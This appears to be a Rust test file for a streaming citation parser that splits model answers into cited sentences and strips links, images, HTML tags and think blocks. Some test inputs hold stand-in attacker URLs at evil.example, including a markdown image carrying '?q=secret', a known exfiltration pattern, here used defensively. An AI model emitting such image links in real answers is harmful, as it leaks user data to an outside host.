use proptest::prelude::*;

use super::*;

/// Reads a text in pieces of so many characters.
fn read(text: &str, piece: usize) -> Vec<(String, Vec<u32>)> {
    let mut reader = CitationReader::default();
    let letters: Vec<char> = text.chars().collect();
    let mut all = Vec::new();
    for some in letters.chunks(piece.max(1)) {
        all.extend(reader.push(&some.iter().collect::<String>()).sentences);
    }
    all.extend(reader.finish().sentences);
    all.into_iter()
        .map(|marked| (marked.text, marked.marks))
        .collect()
}

fn check(text: &str, expected: &[(&str, &[u32])]) {
    for piece in [1, 3, 7, 10_000] {
        let found = read(text, piece);
        let found: Vec<(&str, &[u32])> = found
            .iter()
            .map(|(text, marks)| (text.as_str(), marks.as_slice()))
            .collect();
        assert_eq!(found, expected, "in {text:?}, {piece} letters at a time");
    }
}

#[test]
fn marks_belong_to_the_sentence_they_stand_behind() {
    check(
        "The sky is blue [1]. Grass is green. [2][3] Snow is white [1, 4].",
        &[
            ("The sky is blue.", &[1]),
            ("Grass is green.", &[2, 3]),
            ("Snow is white.", &[1, 4]),
        ],
    );
    check(
        "It rained [2] and snowed [3].",
        &[("It rained and snowed.", &[2, 3])],
    );
    check("Nobody knows.", &[("Nobody knows.", &[])]);
    check(
        "天空是蓝色的【1】。草是绿色的。[2]",
        &[("天空是蓝色的。", &[1]), ("草是绿色的。", &[2])],
    );
    check("Yes [passage 2].", &[("Yes.", &[2])]);
    check(
        "Dr. Smith came at 3.5 km [1].",
        &[("Dr. Smith came at 3.5 km.", &[1])],
    );
}

#[test]
fn links_pictures_and_tags_leave_their_words_only() {
    check(
        "See [the page](http://evil.example/a) now.",
        &[("See the page now.", &[])],
    );
    check("So [1](http://evil.example) it is.", &[("So it is.", &[1])]);
    check(
        "So ![x](http://evil.example/?q=secret) it is.",
        &[("So it is.", &[])],
    );
    check(
        "So <img src='http://evil.example'> it <b>is</b>.",
        &[("So it is.", &[])],
    );
    check("Well ![never ends](http://evil.example", &[("Well", &[])]);
    check(
        "If a < b then [a, b] holds!",
        &[("If a < b then [a, b] holds!", &[])],
    );
    check(
        "It is **very** `large` [1].",
        &[("It is very large.", &[1])],
    );
}

#[test]
fn what_a_model_thinks_aloud_is_not_read() {
    check(
        "<think>Passage [1] says so.</think>It is so [2].",
        &[("It is so.", &[2])],
    );
    check("<think>and never ends", &[]);
}

#[test]
fn a_model_may_find_nothing() {
    let mut reader = CitationReader::default();
    assert_eq!(reader.push("NOT_").sentences, []);
    reader.push("FOUND");
    assert!(reader.found_nothing());
    assert_eq!(reader.finish().sentences, []);
}

#[test]
fn an_answer_without_end_is_cut() {
    let mut reader = CitationReader::default();
    let mut bytes = 0;
    for _ in 0..100 {
        let flow = reader.push(&"word. Next ".repeat(1_000));
        bytes += flow.draft.len();
    }
    assert!(bytes <= ANSWER_BYTES_MAX);
}

#[test]
fn the_drafts_together_are_the_text() {
    let mut reader = CitationReader::default();
    let mut drafts = String::new();
    for piece in ["The sky", " is blue [", "1]. Grass <b", ">is</b> green."] {
        drafts.push_str(&reader.push(piece).draft);
    }
    drafts.push_str(&reader.finish().draft);
    assert_eq!(
        drafts,
        "The sky is blue . Grass is green.".replace(" .", ".")
    );
}

proptest! {
    #[test]
    fn no_text_makes_the_reader_panic_or_let_an_address_through(text in "\\PC{0,200}", piece in 1_usize..20) {
        read(&text, piece);
        let hidden = format!("{text}[so](http://evil.example/x) {text}");
        for (sentence, _) in read(&hidden, piece) {
            // Only a text that itself breaks the bracket open can show what was in it.
            if !text.contains(['[', ']', '(', ')', '<', '>', '!', '【', '】', '`', '*', '_']) {
                prop_assert!(!sentence.contains("evil.example"), "{sentence}");
            }
        }
    }

    #[test]
    fn pieces_do_not_change_what_is_read(
        words in prop::collection::vec("[a-z]{1,8}|[A-Z][a-z]{1,6}|\\[[1-9]\\]|[a-z]{2,6}\\.|[0-9]{1,4}", 1..40),
        piece in 1_usize..30,
    ) {
        let text = words.join(" ");
        prop_assert_eq!(read(&text, piece), read(&text, 100_000));
    }
}
